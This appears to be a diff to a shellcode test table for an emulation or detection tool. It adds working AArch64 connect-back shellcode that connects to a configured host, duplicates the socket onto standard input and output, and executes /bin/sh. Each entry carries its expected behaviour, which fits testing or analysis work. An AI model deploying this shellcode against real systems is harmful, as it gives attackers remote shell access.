@@ -471,6 +471,33 @@ shell: .asciz "/bin/sh"
 
 CONNECT_ARM = _arm()
 CONNECT_THUMB = _arm("add r3, pc, #1\nbx r3\n.thumb")
+CONNECT_ARM64 = f"""
+    mov x0, #2
+    mov x1, #1
+    mov x2, #0
+    mov x8, #198
+    svc #0
+    mov x6, x0
+    adr x1, address
+    mov x2, #16
+    mov x8, #203
+    svc #0
+    mov x1, #2
+9:  mov x0, x6
+    mov x2, #0
+    mov x8, #24
+    svc #0
+    subs x1, x1, #1
+    bpl 9b
+    adr x0, shell
+    mov x1, #0
+    mov x2, #0
+    mov x8, #221
+    svc #0
+    .align 2
+address: .byte 2, 0, {PORT >> 8}, {PORT & 255}, {HOST.replace(".", ", ")}
+shell: .asciz "/bin/sh"
+"""
 # The old way of calling: the number stands in the instruction.
 OPEN_OABI = """
     mov r0, pc
@@ -557,6 +584,7 @@ SHELLCODES: dict[str, tuple[str, Callable[[], bytes], tuple[Behaviour, ...]]] = 
     "linux arm connect back": ("arm", lambda: assemble("arm", CONNECT_ARM), _SHELL),
     "linux thumb connect back": ("arm", lambda: assemble("arm", CONNECT_THUMB), _SHELL),
     "linux arm, old calls": ("arm", lambda: assemble("arm", OPEN_OABI), (Executes("/bin/busybox"),)),
+    "linux aarch64 connect back": ("aarch64", lambda: assemble("aarch64", CONNECT_ARM64), _SHELL),
     "linux mips connect back": ("mips", lambda: assemble("mips", _mips("big")), _SHELL),
     "linux mipsel connect back": ("mipsel", lambda: assemble("mipsel", _mips("little")), _SHELL),
 }  # fmt: skip
